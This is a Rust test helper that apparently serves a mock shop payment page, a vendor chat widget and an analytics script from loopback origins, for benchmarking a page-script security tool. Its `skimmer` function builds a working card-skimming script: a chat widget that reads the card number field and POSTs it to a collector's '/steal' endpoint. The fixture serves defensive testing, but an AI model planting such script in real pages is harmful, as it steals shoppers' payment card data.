//! A small web site on loopback, for `vakt bench pages` and the tests: a
//! few origins (one listener each on 127.0.0.1) whose answers can be
//! changed while it runs, as a shop's pages and its vendors' scripts
//! change. HTTP/1.1 with `Connection: close`, one thread per connection;
//! each listener stops when the site is dropped.
//!
//! Hand-written rather than an HTTP server crate: it serves a handful of
//! fixed answers to one local browser, and a test changes them between
//! requests from plain threads.

use std::collections::HashMap;
use std::io::{self, BufRead, BufReader, Read, Write};
use std::net::{TcpListener, TcpStream};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

/// One answer: status, content type, body, extra headers, and how long to
/// wait before answering (a page that hangs).
#[derive(Clone, Debug)]
pub struct Answer {
    pub status: u16,
    pub content_type: String,
    pub body: String,
    pub headers: Vec<(String, String)>,
    pub delay: Duration,
}

type Routes = HashMap<(u16, String), Answer>;

/// Loopback origins serving their routes; unknown paths get 204.
pub struct Site {
    ports: Vec<u16>,
    routes: Arc<Mutex<Routes>>,
    stop: Arc<AtomicBool>,
    threads: Vec<std::thread::JoinHandle<()>>,
}

fn lock(routes: &Mutex<Routes>) -> std::sync::MutexGuard<'_, Routes> {
    routes.lock().unwrap_or_else(|p| p.into_inner())
}

impl Site {
    /// Starts `origins` listeners on free ports of 127.0.0.1.
    pub fn start(origins: usize) -> io::Result<Site> {
        let routes: Arc<Mutex<Routes>> = Arc::default();
        let stop = Arc::new(AtomicBool::new(false));
        let mut ports = Vec::new();
        let mut threads = Vec::new();
        for _ in 0..origins {
            let listener = TcpListener::bind("127.0.0.1:0")?;
            listener.set_nonblocking(true)?;
            let port = listener.local_addr()?.port();
            ports.push(port);
            let (routes, stop) = (routes.clone(), stop.clone());
            threads.push(std::thread::spawn(move || {
                while !stop.load(Ordering::Relaxed) {
                    match listener.accept() {
                        Ok((conn, _)) => {
                            let (routes, stop) = (routes.clone(), stop.clone());
                            std::thread::spawn(move || answer(conn, port, &routes, &stop));
                        }
                        Err(_) => std::thread::sleep(Duration::from_millis(5)),
                    }
                }
            }));
        }
        Ok(Site {
            ports,
            routes,
            stop,
            threads,
        })
    }

    /// `http://127.0.0.1:PORT` of origin `i`.
    pub fn origin(&self, i: usize) -> String {
        format!("http://127.0.0.1:{}", self.ports[i])
    }

    pub fn port(&self, i: usize) -> u16 {
        self.ports[i]
    }

    /// Origin `i` answers `path` with 200, `content_type` and `body`.
    pub fn set(
        &self,
        i: usize,
        path: &str,
        content_type: &str,
        body: &str,
        headers: &[(&str, &str)],
    ) {
        self.answer(
            i,
            path,
            Answer {
                status: 200,
                content_type: content_type.into(),
                body: body.into(),
                headers: headers
                    .iter()
                    .map(|(k, v)| (k.to_string(), v.to_string()))
                    .collect(),
                delay: Duration::ZERO,
            },
        );
    }

    /// Origin `i` answers `path` with `answer`.
    pub fn answer(&self, i: usize, path: &str, answer: Answer) {
        lock(&self.routes).insert((self.ports[i], path.to_string()), answer);
    }
}

impl Drop for Site {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        for t in self.threads.drain(..) {
            let _ = t.join();
        }
    }
}

/// Reads one request (its body is read and dropped) and answers it.
fn answer(mut conn: TcpStream, port: u16, routes: &Mutex<Routes>, stop: &AtomicBool) {
    let _ = conn.set_nonblocking(false);
    let _ = conn.set_read_timeout(Some(Duration::from_secs(5)));
    let Ok(read) = conn.try_clone() else { return };
    let mut reader = BufReader::new(read);
    let mut line = String::new();
    if reader.read_line(&mut line).is_err() {
        return;
    }
    let target = line.split_whitespace().nth(1).unwrap_or("/");
    let path = target.split('?').next().unwrap_or("/").to_string();
    let mut length = 0usize;
    loop {
        let mut h = String::new();
        if reader.read_line(&mut h).is_err() || h.trim().is_empty() {
            break;
        }
        if let Some(v) = h.to_ascii_lowercase().strip_prefix("content-length:") {
            length = v.trim().parse().unwrap_or(0);
        }
    }
    let mut body = vec![0; length.min(1 << 20)];
    let _ = reader.read_exact(&mut body);
    let found = lock(routes).get(&(port, path)).cloned();
    let a = found.unwrap_or(Answer {
        status: 204,
        content_type: "text/plain".into(),
        body: String::new(),
        headers: Vec::new(),
        delay: Duration::ZERO,
    });
    // A hanging answer still ends when the site stops.
    let until = std::time::Instant::now() + a.delay;
    while std::time::Instant::now() < until && !stop.load(Ordering::Relaxed) {
        std::thread::sleep(Duration::from_millis(20));
    }
    let mut head = format!(
        "HTTP/1.1 {} X\r\nContent-Type: {}\r\nContent-Length: {}\r\nAccess-Control-Allow-Origin: *\r\nCache-Control: no-store\r\nConnection: close\r\n",
        a.status,
        a.content_type,
        a.body.len()
    );
    for (k, v) in &a.headers {
        head.push_str(&format!("{k}: {v}\r\n"));
    }
    head.push_str("\r\n");
    let _ = conn.write_all(head.as_bytes());
    let _ = conn.write_all(a.body.as_bytes());
}

/// A payment page with a first-party bundle, a vendor's chat script, an
/// inline script and an analytics beacon: the site of `vakt bench pages`
/// and the tests. Origin 0 is the shop, 1 the chat vendor, 2 analytics.
pub fn payment_page(site: &Site) {
    let (vendor, analytics) = (site.origin(1), site.origin(2));
    site.set(0, "/pay", "text/html", &PAY.replace("CHAT", &vendor), &[]);
    site.set(
        0,
        "/static/app.js",
        "text/javascript",
        &bundle(1, &analytics),
        &[],
    );
    site.set(1, "/chat.js", "text/javascript", CHAT, &[]);
}

/// The payment page; `CHAT` stands for the chat vendor's origin.
pub const PAY: &str = r#"<!doctype html><html><head><title>Pay</title>
<script src="/static/app.js"></script>
<script src="CHAT/chat.js"></script>
<script>window.shopReady = true;</script>
</head><body><form id="pay" action="/pay" method="post">
<input name="cardholder" autocomplete="cc-name">
<input name="cardnumber" autocomplete="cc-number">
<input name="email" type="email">
<button>Pay</button></form></body></html>"#;

/// The vendor's chat widget as it should be.
pub const CHAT: &str = "document.addEventListener('DOMContentLoaded', function () { var c = document.createElement('div'); c.id = 'chat'; c.textContent = 'Chat with us'; document.body.appendChild(c); });";

/// The chat widget turned skimmer: it also posts the card number to `collector`.
pub fn skimmer(collector: &str) -> String {
    format!("document.addEventListener('DOMContentLoaded', function () {{ var c = document.createElement('div'); c.id = 'chat'; c.textContent = 'Chat with us'; document.body.appendChild(c); var f = document.querySelector('[name=cardnumber]'); f.addEventListener('change', function () {{ fetch('{collector}/steal', {{ method: 'POST', mode: 'no-cors', body: f.value }}); }}); }});")
}

/// The shop's bundle, version `version`: it sends a page view to `analytics`.
pub fn bundle(version: u32, analytics: &str) -> String {
    format!("/* shop bundle v{version} */ window.addEventListener('load', function () {{ navigator.sendBeacon('{analytics}/collect', 'page_view'); }});")
}
